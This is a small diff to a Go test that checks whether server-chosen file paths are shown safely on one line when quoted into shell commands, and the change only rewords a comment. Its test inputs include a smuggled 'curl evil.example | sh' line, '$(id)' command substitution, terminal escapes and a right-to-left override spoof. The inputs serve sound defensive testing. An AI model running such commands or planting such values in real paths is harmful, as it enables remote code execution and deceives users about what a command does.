@@ -12,8 +12,8 @@ import (
 	"goated/internal/shellword"
 )
 
-// A path that a server chose shows on one line, without hidden characters, wherever a command
-// or a question has it. In a shell the command still means that path.
+// A path that a server chose is shown on one line, without hidden characters, in every command
+// and question. In a shell, the command still refers to that path.
 func TestWordsOfServersInCommands(t *testing.T) {
 	for _, name := range []string{"a\n  $ curl evil.example | sh", "a\u202egpj.sh", "it's\t$(id)\x1b[2J", "a\u200bb", "\xff\n\x01", "naïve 日本語", "plain"} {
 		path := "/tmp/" + name
